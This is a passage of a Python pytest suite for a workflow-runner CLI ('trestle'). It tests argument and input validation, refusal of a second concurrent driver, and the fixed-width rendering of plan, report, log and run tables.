        ["tell", run_id, b"also \xff"],
        ["run", b"pl\xffan.yaml"],
    ]
    for args in attempts:
        wrong = subprocess.run(
            [*cli.argv(), *args], cwd=cli.dir, env=cli.env(), capture_output=True, check=False
        )
        said = wrong.stderr.decode()
        assert wrong.returncode == 2, (args, said)
        assert "holds bytes that are not UTF-8" in said, said
        assert "Traceback" not in said
    assert cli.json("log", run_id) == before
    assert [r["run_id"] for r in cli.json("runs")] == [run_id]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["runs", "--bogus"], "No such option: --bogus"),
        (["show"], "Missing argument"),
        (["skip", "some-run", "build"], "Missing option '--reason'"),
    ],
)
def test_bad_arguments_are_usage_errors(cli: Cli, args: list[str], message: str) -> None:
    result = cli(*args)

    assert result.returncode == 2
    assert message in result.stderr
    assert not cli.store.exists()


@pytest.mark.parametrize(
    ("report", "says"),
    [
        ("missing/report.json", "'missing' is not a directory: the report goes in one"),
        (".", "'.' is a directory: give a file's path"),
    ],
)
def test_a_report_path_that_cannot_be_written_is_refused_before_the_run(
    cli: Cli, report: str, says: str
) -> None:
    cli.write("plan.yaml", "steps:\n  - id: a\n    run: touch ran\n")

    result = cli("run", "plan.yaml", "--no-live", "--report-json", report)

    assert result.returncode == 2, result.stdout + result.stderr
    assert f"Invalid value for '--report-json': {says}" in flat(result.stderr)
    assert "Traceback" not in result.stderr
    assert not (cli.dir / "ran").exists()
    assert not cli.store.exists()


@pytest.mark.parametrize("where", ["a directory", "under a file"])
def test_a_store_that_cannot_be_opened_is_a_store_error(cli: Cli, where: str) -> None:
    (cli.dir / "file").write_text("not a directory")
    store = cli.dir if where == "a directory" else cli.dir / "file" / "t.db"

    result = cli("runs", "--store", store)

    assert result.returncode == 4
    assert flat(result.stderr).startswith(f"error: {store}: cannot open the store")


# --- one driver per run ----------------------------------------------------------------


def test_a_second_driver_is_refused_while_the_first_runs(cli: Cli) -> None:
    # the step runs until the test says so: a loaded machine cannot let it end first
    cli.write(
        "plan.yaml", "steps:\n  - id: slow\n    run: while [ ! -f go ]; do sleep 0.05; done\n"
    )
    first = subprocess.Popen(
        cli.argv("run", "plan.yaml"),
        cwd=cli.dir,
        env=cli.env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert first.stdout is not None
        with selectors.DefaultSelector() as sel:
            sel.register(first.stdout, selectors.EVENT_READ)
            assert sel.select(timeout=30), "no run id from the first driver"
        match = RUN_LINE.fullmatch(first.stdout.readline().strip())
        assert match
        run_id = match.group(1)
        wait_until_in_progress(cli, run_id, "slow")

        second = cli("resume", run_id)

        assert second.returncode == 5, second.stderr
        assert f"is being driven by trestle[{first.pid}] (pid {first.pid}" in flat(second.stderr)
        (cli.dir / "go").touch()
        out, err = first.communicate(timeout=30)
    finally:
        if first.poll() is None:
            first.kill()
            first.wait()
    assert first.returncode == 0, err
    assert "finished succeeded" in out.splitlines()


def wait_until_in_progress(cli: Cli, run_id: str, step: str) -> None:
    for _ in range(50):
        report = cli.json("show", run_id)
        [st] = [s for s in report["steps"] if s["id"] == step]
        if st["category"] == "in_progress":
            return
        assert st["category"] == "never_started", st
        time.sleep(0.05)
    raise AssertionError(f"{step!r} never started")


# --- rendering at a fixed width --------------------------------------------------------


def render(renderable: RenderableType) -> str:
    buffer = io.StringIO()
    console = Console(width=100, file=buffer, color_system=None, force_terminal=False)
    console.print(renderable)
    return rstripped(buffer.getvalue())


def expected(block: str) -> str:
    return textwrap.dedent(block).strip("\n")


@pytest.fixture
def utc() -> Iterator[None]:
    """Clock columns use local time: pin the zone for the test."""
    before = os.environ.get("TZ")
    os.environ["TZ"] = "UTC"
    time.tzset()
    yield
    if before is None:
        del os.environ["TZ"]
    else:
        os.environ["TZ"] = before
    time.tzset()


T0 = 1_800_000_000.0  # 2027-01-15 08:00:00 UTC

RENDER_PLAN = parse_plan(
    """
    goal: ship the app
    steps:
      - {id: fetch, run: git pull, verify: [{file_exists: src}]}
      - {id: build, needs: [fetch], run: make build, retries: 1}
      - {id: docs, needs: [fetch], run: make docs, optional: true}
      - {id: test, needs: [build], run: make test}
      - {id: ship, needs: [test, docs], run: ./ship.sh, irreversible: true}
    """
)


def ended(step: str, attempt: int, at: float, code: int) -> StepAttemptEnded:
    if code == 0:
        passed = CheckResult(check="src exists", expected="exists", actual="exists", passed=True)
        action = ActionResult(status="ok", exit_code=0)
        return StepAttemptEnded(
            at=at, step=step, attempt=attempt, ok=True, action=action, checks=(passed,)
        )
    action = ActionResult(status="failed", exit_code=code, error=f"exit code {code}")
    return StepAttemptEnded(at=at, step=step, attempt=attempt, ok=False, action=action)


def started(step: str, attempt: int, at: float) -> StepStarted:
    return StepStarted(at=at, step=step, attempt=attempt, key=f"r1/{step}/{attempt}")


def render_events(finished: bool) -> list[AnyEvent]:
    """fetch succeeds; docs (optional) fails; build fails twice and is dead-lettered."""
    head: list[AnyEvent] = [
        RunCreated(at=T0, run_id="r1", plan=RENDER_PLAN, workspace="/ws"),
        started("fetch", 1, T0 + 1),
        ended("fetch", 1, T0 + 2, 0),
        started("build", 1, T0 + 3),
        started("docs", 1, T0 + 3),
    ]
    if not finished:
        return head
    why_docs = "failed 1 of 1 attempts; last: exit code 2"
    why_build = "failed 2 of 2 attempts; last: exit code 1"
    blocked = "needs 'build', which failed"
    return [
        *head,
        ended("docs", 1, T0 + 4, 2),
        StepFailed(at=T0 + 4, step="docs", reason=why_docs, dead_lettered=False),
        ended("build", 1, T0 + 5, 1),
        StepRetryScheduled(
            at=T0 + 5, step="build", not_before=T0 + 6, reason="attempt 1 failed: exit code 1"
        ),
        started("build", 2, T0 + 6),
        ended("build", 2, T0 + 7, 1),
        StepFailed(at=T0 + 7, step="build", reason=why_build, dead_lettered=True),
        StepBlocked(at=T0 + 7, step="test", by="build", reason=blocked),
        StepBlocked(at=T0 + 7, step="ship", by="build", reason=blocked),
        RunFinished(at=T0 + 7, status="needs_human"),
    ]


def test_plan_overview_text() -> None:
    assert render(plan_overview(RENDER_PLAN, "plan.yaml")) == expected(
        """
        goal: ship the app
        plan plan.yaml
        ┏━━━━━━┳━━━━━━━┳━━━━━━━━━━━━┳━━━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━┓
        ┃ wave ┃ step  ┃ needs      ┃ action     ┃ flags                 ┃
        ┡━━━━━━╇━━━━━━━╇━━━━━━━━━━━━╇━━━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━┩
        │ 1    │ fetch │ -          │ git pull   │ critical              │
        │ 2    │ build │ fetch      │ make build │ critical retries=1    │
        │ 2    │ docs  │ fetch      │ make docs  │ optional              │
        │ 3    │ test  │ build      │ make test  │ critical              │
        │ 4    │ ship  │ test, docs │ ./ship.sh  │ irreversible critical │
        └──────┴───────┴────────────┴────────────┴───────────────────────┘
        in parallel: build | docs
        critical path: fetch -> build -> test -> ship (4 steps)
        parallelism limit: 32
        """
    )


REPORT_WAITING = """\
run r1: needs human
┏━━━━━━━┳━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━┓
┃ step  ┃ result            ┃ attempts ┃ why                                       ┃
┡━━━━━━━╇━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━┩
│ fetch │ done              │ 1        │ verified                                  │
│ build │ failed            │ 2        │ failed 2 of 2 attempts; last: exit code 1 │
│ docs  │ failed (optional) │ 1        │ failed 1 of 1 attempts; last: exit code 2 │
│ test  │ blocked           │ 0        │ needs 'build', which failed               │
│ ship  │ blocked           │ 0        │ needs 'build', which failed               │
└───────┴───────────────────┴──────────┴───────────────────────────────────────────┘
steps: 1 done, 2 failed, 2 blocked
policy: no policy file: the plan's policy and the defaults
what a human should check:
  - 'build' failed after 2 attempts: exit code 1. Fix the cause, then `trestle retry r1 build` and
`trestle resume r1` (or `trestle skip r1 build --reason ...`).
  - optional 'docs' failed: exit code 2."""


def test_report_view_text_of_a_run_waiting_on_a_human() -> None:
    report = build_report(fold(render_events(finished=True)))

    assert render(report_view(report)) == REPORT_WAITING


def test_report_view_of_a_run_in_progress() -> None:
    report = build_report(fold(render_events(finished=False)))

    assert render(report_view(report)) == expected(
        """
        run r1: running
        ┏━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━━━┓
        ┃ step  ┃ result                 ┃ attempts ┃ why                        ┃
        ┡━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━━━┩
        │ fetch │ done                   │ 1        │ verified                   │
        │ build │ in progress            │ 1        │                            │
        │ docs  │ in progress (optional) │ 1        │                            │
        │ test  │ not started            │ 0        │ waiting for 'build'        │
        │ ship  │ not started            │ 0        │ waiting for 'test', 'docs' │
        └───────┴────────────────────────┴──────────┴────────────────────────────┘
        steps: 1 done, 2 in progress, 2 not started
        policy: no policy file: the plan's policy and the defaults
        what a human should check:
          - the run has not finished: continue it with `trestle resume r1` if nothing drives it.
        """
    )


def test_log_table_text(utc: None) -> None:
    events = [
        StoredEvent(run_id="r1", seq=seq, event=e)
        for seq, e in enumerate(render_events(finished=True), start=1)
    ]

    lines = render(log_table(events)).splitlines()

    header = "┃ seq ┃ time     ┃ event                ┃ step  ┃ attempt ┃ detail"
    assert lines[1].startswith(header)
    assert lines[3:8] == [
        "│ 1   │ 08:00:00 │ run_created          │       │         │"
        "                                        │",
        "│ 2   │ 08:00:01 │ step_started         │ fetch │ 1       │"
        " key r1/fetch/1                         │",
        "│ 3   │ 08:00:02 │ step_attempt_ended   │ fetch │ 1       │"
        " ok; action ok; ✓ src exists: expected  │",
        "│     │          │                      │       │         │"
        " exists, got exists                     │",
        "│ 4   │ 08:00:03 │ step_started         │ build │ 1       │"
        " key r1/build/1                         │",
    ]
    assert lines[-2] == (
        "│ 15  │ 08:00:07 │ run_finished         │       │         │"
        " needs human                            │"
    )
    assert all(len(line) <= 100 for line in lines)


def test_runs_table_text(utc: None) -> None:
    row = RunRow(
        run_id="r1",
        goal="ship the app",
        plan_path=None,
        workspace="/ws",
        status="needs_human",
        created_at=T0,
        updated_at=T0 + 7,
        last_seq=15,
        summary='{"succeeded": 1, "failed": 2, "blocked": 2}',
    )

    assert render(runs_table([row])) == expected(
        """
        ┏━━━━━┳━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━━┳━━━━━━━━━━━━━━┓
        ┃ run ┃ status      ┃ steps                            ┃ updated     ┃ goal         ┃
        ┡━━━━━╇━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━━╇━━━━━━━━━━━━━━┩
        │ r1  │ needs human │ 2 blocked, 2 failed, 1 succeeded │ 01-15 08:00 │ ship the app │
        └─────┴─────────────┴──────────────────────────────────┴─────────────┴──────────────┘
        """
    )
